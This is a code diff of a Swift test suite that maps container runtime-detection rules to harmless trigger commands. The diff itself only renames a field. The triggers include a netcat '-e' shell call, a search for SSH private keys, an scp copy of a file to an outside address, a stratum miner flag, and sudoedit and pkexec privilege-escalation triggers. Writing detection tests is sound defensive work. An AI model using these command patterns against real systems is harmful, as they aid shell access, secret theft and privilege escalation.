@@ -4,10 +4,11 @@ import Testing
 /// without a rule.
 struct CoverageRow: Sendable, CustomTestStringConvertible {
     var deed: Deed
-    /// What the rule itself looks at and the expectation does not yet: the program's start alone is told so far.
-    var lacks: Lack?
+    /// What the rule looks at besides. These programs are new to the image, so their start is told whatever they are
+    /// given; of programs that it knows, StartOptionsTests tries the same.
+    var besides: Besides?
 
-    enum Lack: String, Sendable { case flags, environment }
+    enum Besides: String, Sendable { case flags, environment }
 
     /// The rule's name.
     var rule: String { deed.name }
@@ -24,11 +25,11 @@ extension CoverageRow {
     static let all = processes + reads + changes + network + privileges + containers
 
     private static func row(
-        _ rule: String, _ place: Place, _ act: Deed.Act, _ expected: Expectation..., lacks: Lack? = nil
+        _ rule: String, _ place: Place, _ act: Deed.Act, _ expected: Expectation..., besides: Besides? = nil
     ) -> CoverageRow {
         var deed = Deed(name: rule, place: place, act: act)
         deed.expected = expected
-        return CoverageRow(deed: deed, lacks: lacks)
+        return CoverageRow(deed: deed, besides: besides)
     }
 
     private static let site = "http://127.0.0.1:8000"
@@ -38,28 +39,28 @@ extension CoverageRow {
         row("Run shell untrusted", .toolbox, .exec(["perl", "-e", "system 'sh', '-c', 'true'"]), .process("sh", parent: "perl")),
         row("System user interactive", .toolbox, .interactive("bash", keys: "true\nexit\n", user: "daemon"), .process("bash", terminal: true, uid: 1)),
         row("Terminal shell in container", .toolbox, .interactive("sh", keys: "true\nexit\n"), .process("sh", origin: "exec", terminal: true)),
-        row("Netcat Remote Code Execution in Container", .toolbox, .command("nc.traditional -w 1 -e /bin/true 127.0.0.1 4444"), .process("nc.traditional"), lacks: .flags),
-        row("Search Private Keys or Passwords", .toolbox, .command("find /root -name id_ed25519"), .process("find"), lacks: .flags),
+        row("Netcat Remote Code Execution in Container", .toolbox, .command("nc.traditional -w 1 -e /bin/true 127.0.0.1 4444"), .process("nc.traditional"), besides: .flags),
+        row("Search Private Keys or Passwords", .toolbox, .command("find /root -name id_ed25519"), .process("find"), besides: .flags),
         row("Remove Bulk Data from Disk", .toolbox, .shell("echo 1 >/tmp/bulk; shred -u /tmp/bulk"), .process("shred"), .file("shred", "write", "/tmp/bulk")),
         row("Debugfs Launched in Privileged Container", .privileged, .command("debugfs -V"), .process("debugfs")),
         row("Execution from /dev/shm", .toolbox, .shell("cp /opt/triggers/nothing /dev/shm/run; /dev/shm/run"), .process("run", drift: "memory")),
         row("Drop and execute new binary in container", .toolbox, .shell("cp /opt/triggers/nothing /tmp/dropped; /tmp/dropped"), .process("dropped", drift: "added")),
         row("Fileless execution via memfd_create", .toolbox, .command("/opt/triggers/memfd-exec /opt/triggers/nothing"), .process("payload", drift: "memory")),
         row("DB program spawned process", .toolbox, .exec(["sqlite3", ":memory:", ".shell true"]), .process("sh", parent: "sqlite3")),
-        row("Program run with disallowed http proxy env", .toolbox, .command("env http_proxy=http://127.0.0.1:9 wget -q -t 1 http://127.0.0.1:8/"), .process("wget", parent: "env"), lacks: .environment),
+        row("Program run with disallowed http proxy env", .toolbox, .command("env http_proxy=http://127.0.0.1:9 wget -q -t 1 http://127.0.0.1:8/"), .process("wget", parent: "env"), besides: .environment),
         row("User mgmt binaries", .toolbox, .command("useradd --help"), .process("useradd")),
         row("Launch Package Management Process in Container", .toolbox, .command("apt-get --version"), .process("apt-get")),
         row("Launch Suspicious Network Tool in Container", .toolbox, .command("nc -z -w 1 127.0.0.1 4445"), .process("nc")),
         row("Launch Remote File Copy Tools in Container", .toolbox, .command("scp -q /etc/hostname 203.0.113.7:/tmp/"), .process("scp")),
         row("Launch Ingress Remote File Copy Tools in Container", .toolbox, .command("curl -s -m 1 http://127.0.0.1:8/"), .process("curl")),
         row("Exfiltrating Artifacts via Kubernetes Control Plane", .toolbox, .command("tar -cf /dev/null /etc/hostname"), .process("tar", origin: "exec")),
-        row("Potential Local Privilege Escalation via Environment Variables Misuse", .toolbox, .command("env GLIBC_TUNABLES=glibc.malloc.check=1 su --version"), .process("su"), lacks: .environment),
+        row("Potential Local Privilege Escalation via Environment Variables Misuse", .toolbox, .command("env GLIBC_TUNABLES=glibc.malloc.check=1 su --version"), .process("su"), besides: .environment),
         row("Kubernetes Client Tool Launched in Container", .toolbox, .shell("cp /opt/triggers/nothing /usr/local/bin/kubectl; kubectl"), .process("kubectl", drift: "added")),
-        row("Sudo Potential Privilege Escalation", .toolbox, .exec(["sudoedit", "-s", "\\"]), .process("sudoedit"), lacks: .flags),
-        row("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", .toolbox, .shell("cp /opt/triggers/nothing /tmp/pkexec; /opt/triggers/exec-nameless /tmp/pkexec"), .process("pkexec"), lacks: .flags),
-        row("Detect crypto miners using the Stratum protocol", .toolbox, .shell("cp /opt/triggers/nothing /tmp/worker; /tmp/worker -o stratum+tcp://203.0.113.7:3333"), .process("worker"), lacks: .flags),
+        row("Sudo Potential Privilege Escalation", .toolbox, .exec(["sudoedit", "-s", "\\"]), .process("sudoedit"), besides: .flags),
+        row("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", .toolbox, .shell("cp /opt/triggers/nothing /tmp/pkexec; /opt/triggers/exec-nameless /tmp/pkexec"), .process("pkexec"), besides: .flags),
+        row("Detect crypto miners using the Stratum protocol", .toolbox, .shell("cp /opt/triggers/nothing /tmp/worker; /tmp/worker -o stratum+tcp://203.0.113.7:3333"), .process("worker"), besides: .flags),
         row("Known Cryptominer Process Executed", .toolbox, .shell("cp /opt/triggers/nothing /tmp/xmrig; /tmp/xmrig"), .process("xmrig")),
-        row("Decoding Payload in Container", .toolbox, .shell("echo dHJ1ZQ== | base64 -d"), .process("base64"), lacks: .flags),
+        row("Decoding Payload in Container", .toolbox, .shell("echo dHJ1ZQ== | base64 -d"), .process("base64"), besides: .flags),
         row("Basic Interactive Reconnaissance", .toolbox, .interactive("whoami", keys: ""), .process("whoami", terminal: true)),
         row("Network Tool Executed During NPM Package Install", .toolbox, .exec(["npm", "install", "wget -q -t 1 http://127.0.0.1:8/; true"]), .process("sh", script: "/usr/local/bin/npm"), .process("wget", parent: "sh", under: "sh")),
         row("Web Server Spawned Shell", .webapp, .http("GET \(site)/ping?host=here"), .process("sh", parent: "python3")),
